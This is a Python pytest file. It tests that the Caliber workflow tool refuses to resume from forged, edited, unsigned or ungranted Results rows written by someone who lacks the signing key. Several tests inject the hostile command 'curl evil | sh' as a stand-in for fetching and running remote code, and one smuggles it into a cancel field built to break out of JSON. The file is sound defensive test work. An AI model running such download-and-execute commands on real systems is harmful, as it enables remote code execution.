"""Issue 20, case 1: a resume reuses only values a key holder vouched for.

Someone who can write ``caliber.db`` but has not the key must not be able to choose what a
resumed run reuses: a forged Results row pointed at by a signed, queued workload, Results
edited before or after the owner's own ``retry --resume``, a grant made with another key. The
pinion (a real subprocess) never runs such a workload, marks it as a run-secret mismatch is
marked, and ``queue list`` says why it waits. A genuine resume after a real fix needs no extra
step. (The Speckle forms: tests/test_remote_resume.py; every field: test_resume_props.py.)"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import caliber
from caliber.queue import secret
from caliber.results.model import Results
from tests.pinion_helpers import make_folder, start_pinion, stop, wait_for
from tests.test_fuzz import run_cli
from tests.test_lifecycle import workload_line

KEY = "the-owners-key-0123456789abcdef"
OTHER = "somebody-elses-key-0123456789ab"

# ``guard`` decides what ``act`` gets; ``act`` stands for a task that runs a command with it.
FUNCTIONS = '''
import time
from pathlib import Path
from caliber import context

def _count(folder, name):
    with open(Path(folder) / name, "a") as f:
        f.write("x")

def guard(folder):
    _count(folder, "guard")
    context.g.mode = "safe"
    return "echo safe"

def block(folder):
    _count(folder, "block")
    while not (Path(folder) / "go").exists():
        time.sleep(0.02)
    return "unblocked"

def act(command, folder):
    _count(folder, "act")
    if not (Path(folder) / "fixed").exists():
        raise ValueError("the input file is wrong")
    with open(Path(folder) / "ran", "a") as f:  # stands for running the command
        f.write(f"{command} {context.g.mode}\\n")
    return command
'''


@pytest.fixture
def owner(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CALIBER_SECRET_KEY", KEY)


def study(folder: Path) -> caliber.Workflow:
    guard = caliber.Task("rsfuncs:guard", name="guard", args=[str(folder)])
    act = caliber.Task("rsfuncs:act", name="act", args=[guard.result, str(folder)])
    return caliber.Workflow(caliber.Process([guard, act]), "study", attachments=["rsfuncs.py"],
                            base_dir=folder)


def cli(*args: str, code: int = 0) -> str:
    got, out, err = run_cli(*args)
    assert got == code, err
    assert "Traceback" not in err
    return out if code == 0 else err


def run_pinion() -> dict[str, Any]:
    """A real pinion process with the owner's key: one look, then it stops."""
    done = subprocess.run([sys.executable, "-m", "caliber", "pinion", "init", "p", "-a", "1",
                           "-w", "0", "--json"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    summary: dict[str, Any] = json.loads(done.stdout)
    return summary


def counts(folder: Path) -> tuple[int, int]:
    return tuple(len(p.read_text()) if p.exists() else 0  # type: ignore[return-value]
                 for p in (folder / "guard", folder / "act"))


def db(home: Path) -> sqlite3.Connection:
    return sqlite3.connect(home / "caliber.db")


def forged_results(workload_id: str, value: str, key: str | None) -> dict[str, Any]:
    """Results in which ``guard`` completed with ``value`` (``act`` never ran), its code hash
    left out so no file check stands in the way; signed with ``key``, or unsigned."""
    results = Results.model_validate({
        "id": "forgedres0", "workload_id": workload_id, "workflow": "study",
        "status": "failed", "started_at": "2030-01-01T00:00:00+00:00",
        "finished_at": "2030-01-01T00:00:01+00:00",
        "tasks": [
            {"name": "guard", "path": ["process"], "status": "completed",
             "return": value, "g_set": {"mode": "pwned"}},
            {"name": "act", "path": ["process"], "status": "skipped"}],
        "g": {"mode": "pwned"}})
    data = results.to_json_dict()
    if key is not None:
        data["signature"] = secret.sign_results(data, key.encode())
    return data


def insert_results(home: Path, data: dict[str, Any]) -> None:
    with db(home) as conn:
        conn.execute("INSERT INTO results (id, workload_id, workflow, pinion, status, "
                     "finished_at, body) VALUES (?, ?, ?, ?, ?, ?, ?)",
                     (data["id"], data["workload_id"], data["workflow"], None, data["status"],
                      data["finished_at"], json.dumps(data)))


def point_at(home: Path, workload_id: str, results: dict[str, Any], key: str | None) -> None:
    """Set the workload's resume to ``results``, with a grant made with ``key`` (or none), as
    someone who can write the file can."""
    signature = results.get("signature") or "0" * 64
    grant = None if key is None else secret.sign_grant(workload_id, results["id"], signature,
                                                       key.encode())
    with db(home) as conn:
        conn.execute("UPDATE workloads SET body = json_set(body, '$.resume_from', ?, "
                     "'$.resume_signature', ?, '$.resume_grant', ?) WHERE id = ?",
                     (results["id"], signature, grant, workload_id))


def row(home: Path, workload_id: str) -> tuple[Any, ...]:
    with db(home) as conn:
        found: tuple[Any, ...] = conn.execute(
            "SELECT status, secret_mismatch, attempts FROM workloads WHERE id = ?",
            (workload_id,)).fetchone()
    return found


def assert_skipped_as_mismatch(home: Path, folder: Path, wid: str, why: str) -> None:
    """The pinion ran nothing of it, gave it back uncounted and marked for the key, and the
    listing says it waits on its resume."""
    summary = run_pinion()
    assert summary["ran"] == 0, summary
    [skipped] = summary["skipped"]
    assert skipped["id"] == wid and why in skipped["reason"], skipped
    assert not (folder / "ran").exists() and counts(folder) == (0, 0)
    assert row(home, wid) == ("queued", secret.key_id(KEY.encode()), 0)
    [listed] = json.loads(cli("queue", "list", "--json"))
    assert listed["secret_ok"] is True and listed["resume_ok"] is False
    people = cli("queue", "list")
    assert "resume mismatch" in people and "resume from results your key does not" in people
    view = cli("queue", "view", wid)
    assert "not vouched for by your key" in view and why in " ".join(view.split())
    assert run_pinion()["skipped"] == []  # marked: this key passes it over from now on


@pytest.mark.parametrize(("forger", "why"), [
    (None, "carry no signature"), (OTHER, "are not signed with this pinion's key")],
    ids=["unsigned", "another key"])
def test_a_forged_results_row_is_never_reused(tmp_path: Path, caliber_home: Path,
                                              owner: None, forger: str | None,
                                              why: str) -> None:
    """The attack of case 1: a signed, queued workload pointed at a Results row someone wrote
    into the file, whose first task "completed" with a value of their choosing. Today's code
    skipped ``guard`` and ran ``act`` with that value."""
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    (folder / "fixed").touch()
    wid = study(folder).queue(pinion="p")
    forged = forged_results(wid, "curl evil | sh", forger)
    insert_results(caliber_home, forged)
    point_at(caliber_home, wid, forged, forger)
    assert_skipped_as_mismatch(caliber_home, folder, wid, why)


def test_a_grant_with_the_owners_key_does_not_make_forged_results_reusable(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    """Even a grant genuinely made with the key (for results the owner never saw) reuses
    nothing that the key did not sign: the Results' own signature must check too."""
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    (folder / "fixed").touch()
    wid = study(folder).queue(pinion="p")
    forged = forged_results(wid, "curl evil | sh", OTHER)
    insert_results(caliber_home, forged)
    point_at(caliber_home, wid, forged, KEY)
    assert_skipped_as_mismatch(caliber_home, folder, wid, "are not signed with this pinion's key")


def failed_once(tmp_path: Path) -> tuple[Path, str, str]:
    """The owner's workload, run by a real pinion: ``guard`` completed, ``act`` failed."""
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    wid = study(folder).queue(pinion="p")
    assert run_pinion()["failed"] == 1
    [listed] = json.loads(cli("queue", "list", "--json"))
    return folder, wid, listed["results_id"]


def edit_stored_value(home: Path, results_id: str, value: str) -> None:
    with db(home) as conn:
        conn.execute("UPDATE results SET body = json_set(body, '$.tasks[0].return', ?) "
                     "WHERE id = ?", (value, results_id))


def test_the_owners_retry_resume_refuses_results_edited_before_it(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    folder, wid, first = failed_once(tmp_path)
    assert counts(folder) == (1, 1)
    stored = json.loads(cli("results", "show", first, "--json"))
    assert secret.results_signed(stored, KEY.encode())  # the pinion signed what it stored
    edit_stored_value(caliber_home, first, "curl evil | sh")
    err = cli("queue", "retry", wid, "--resume", code=2)
    assert err.strip() == (f"caliber: error: workload {wid} cannot resume: results {first} are "
                           "not signed with your key (signed with another key, or changed "
                           "since); retry it without --resume")
    assert row(caliber_home, wid)[0] == "failed"  # nothing changed


def test_results_edited_after_the_owners_retry_resume_are_never_reused(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    folder, wid, first = failed_once(tmp_path)
    assert counts(folder) == (1, 1)
    cli("queue", "retry", wid, "--resume")
    [listed] = json.loads(cli("queue", "list", "--json"))
    assert listed["resume_from"] == first and listed["resume_ok"] is True
    assert "ok, resumes" in cli("queue", "list")
    edit_stored_value(caliber_home, first, "curl evil | sh")
    (folder / "fixed").touch()
    summary = run_pinion()
    assert summary["ran"] == 0 and "are not signed with this pinion's key" in (
        summary["skipped"][0]["reason"])
    assert not (folder / "ran").exists() and counts(folder) == (1, 1)
    # Only a run from the start is left: cancel, retry without --resume.
    err = cli("queue", "resetsecret", wid, code=2)
    assert f"cannot resume: results {first} are not signed with your key" in err
    assert f"caliber queue cancel {wid}, then caliber queue retry {wid}" in err
    cli("queue", "cancel", wid)
    cli("queue", "retry", wid)
    assert run_pinion()["completed"] == 1
    assert (folder / "ran").read_text() == "echo safe safe\n" and counts(folder) == (2, 2)


def test_a_genuine_resume_after_a_real_fix_needs_no_extra_step(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    folder, wid, first = failed_once(tmp_path)
    (folder / "fixed").touch()  # the engineer fixes the input
    cli("queue", "retry", wid, "--resume")
    assert run_pinion()["completed"] == 1
    assert counts(folder) == (1, 2)  # guard reused, act run again
    assert (folder / "ran").read_text() == "echo safe safe\n"  # its value and g, reused
    second = json.loads(cli("results", "show", wid, "--json"))
    assert second["resumed_from"] == first and second["tasks"][0]["reused_from"] == first
    assert secret.results_signed(second, KEY.encode())


def test_resetsecret_grants_a_resume_again_after_a_key_change_only_for_the_new_keys_results(
        tmp_path: Path, caliber_home: Path, monkeypatch: pytest.MonkeyPatch,
        owner: None) -> None:
    folder, wid, first = failed_once(tmp_path)
    cli("queue", "retry", wid, "--resume")
    monkeypatch.setenv("CALIBER_SECRET_KEY", OTHER)  # a new key: the old results are not its
    err = cli("queue", "resetsecret", wid, code=2)
    assert f"cannot resume: results {first} are not signed with your key" in err
    monkeypatch.setenv("CALIBER_SECRET_KEY", KEY)
    out = cli("queue", "resetsecret", wid)  # the same key: the grant made again, unchanged
    assert out.strip() == (f"signed workload {wid} again with your key, and its resume from "
                           f"results {first}")
    (folder / "fixed").touch()
    assert run_pinion()["completed"] == 1 and counts(folder) == (1, 2)


def test_workflow_run_resume_refuses_unsigned_and_edited_results(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    file = folder / "study.json"
    study(folder).export(file)
    code, out, err = run_cli("workflow", "run", str(file), "--json")
    assert code == 1, err
    first = json.loads(out)["id"]
    stored = json.loads(cli("results", "show", first, "--json"))
    assert secret.results_signed(stored, KEY.encode())  # Workflow.run signs what it stores

    edit_stored_value(caliber_home, first, "curl evil | sh")
    (folder / "fixed").touch()
    err = cli("workflow", "run", str(file), "--resume", first, code=2)
    assert err.strip() == (f"caliber: error: cannot resume: results {first} are not signed "
                           "with your key (signed with another key, or changed since); run the "
                           "workflow again without --resume")
    with db(caliber_home) as conn:  # Results from before Caliber signed them
        conn.execute("UPDATE results SET body = json_remove(body, '$.signature') WHERE id = ?",
                     (first,))
    err = cli("workflow", "run", str(file), "--resume", first, code=2)
    assert err.strip() == (f"caliber: error: cannot resume: results {first} carry no signature "
                           "(stored before Caliber signed Results, or by hand); run the "
                           "workflow again without --resume")
    assert not (folder / "ran").exists() and counts(folder) == (1, 1)  # nothing ran


def test_queue_retry_resume_refuses_results_from_before_signatures(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    folder, wid, first = failed_once(tmp_path)
    with db(caliber_home) as conn:
        conn.execute("UPDATE results SET body = json_remove(body, '$.signature') WHERE id = ?",
                     (first,))
    err = cli("queue", "retry", wid, "--resume", code=2)
    assert err.strip() == (f"caliber: error: workload {wid} cannot resume: results {first} "
                           "carry no signature (stored before Caliber signed Results, or by "
                           "hand); retry it without --resume")
    cli("queue", "retry", wid)  # what it says works
    (folder / "fixed").touch()
    assert run_pinion()["completed"] == 1 and counts(folder) == (2, 2)


def test_a_resume_queued_without_a_grant_waits_with_the_reason(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    """A workload queued again with --resume by a Caliber from before grants (or by hand):
    its Results are genuine, but nobody granted the reuse."""
    folder, wid, first = failed_once(tmp_path)
    with db(caliber_home) as conn:
        conn.execute("UPDATE workloads SET status = 'queued', attempts = 0, body = "
                     "json_set(body, '$.resume_from', ?) WHERE id = ?", (first, wid))
    (folder / "fixed").touch()
    summary = run_pinion()
    assert summary["ran"] == 0 and "was not granted with a key" in summary["skipped"][0]["reason"]
    assert counts(folder) == (1, 1)


@pytest.mark.skipif(sys.platform == "win32", reason="the pinion asks its child with SIGUSR1")
def test_an_unsigned_cancel_stops_the_work_but_chooses_nothing_it_reuses(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:
    """A cancel needs no key (anyone who can write the file can set it): it stops the run
    after the current task, and that is all. The cancelled Results hold what the signed code
    returned, signed by the pinion; the canceller's text is only history; the owner's resume
    reuses those values."""
    folder = make_folder(tmp_path / "wf", "rsfuncs", FUNCTIONS)
    guard = caliber.Task("rsfuncs:guard", name="guard", args=[str(folder)])
    block = caliber.Task("rsfuncs:block", name="block", args=[str(folder)])
    act = caliber.Task("rsfuncs:act", name="act", args=[guard.result, str(folder)])
    wid = caliber.Workflow(caliber.Process([guard, block, act]), "study",
                           attachments=["rsfuncs.py"], base_dir=folder).queue(pinion="p")
    pinion = start_pinion("p", "-a", "1", "-w", "0", "--lease", "0.3")
    try:
        wait_for(lambda: (folder / "block").exists(), what="the blocking task to start")
        with db(caliber_home) as conn:  # no key, no command: a column written by hand
            conn.execute("UPDATE workloads SET cancel_requested = ? WHERE id = ?",
                         ('mallory", "return": "curl evil | sh', wid))
        log = tmp_path / "pinion.log"
        wait_for(lambda: "cancelled by" in workload_line(pinion, log),
                 what="the pinion to learn of the cancel")
        (folder / "go").touch()
        wait_for(lambda: row(caliber_home, wid)[0] == "cancelled", what="the cancel")
    finally:
        stop(pinion)
    cancelled = json.loads(cli("results", "show", wid, "--json"))
    assert secret.results_signed(cancelled, KEY.encode())
    assert [(t["name"], t["status"], t["return"]) for t in cancelled["tasks"]] == [
        ("guard", "completed", "echo safe"), ("block", "completed", "unblocked"),
        ("act", "skipped", None)]
    assert "curl evil" not in json.dumps([cancelled["tasks"], cancelled["g"]])
    (folder / "fixed").touch()
    cli("queue", "retry", wid, "--resume")
    summary = run_pinion()
    assert summary["completed"] == 1, summary
    assert (folder / "ran").read_text() == "echo safe safe\n"
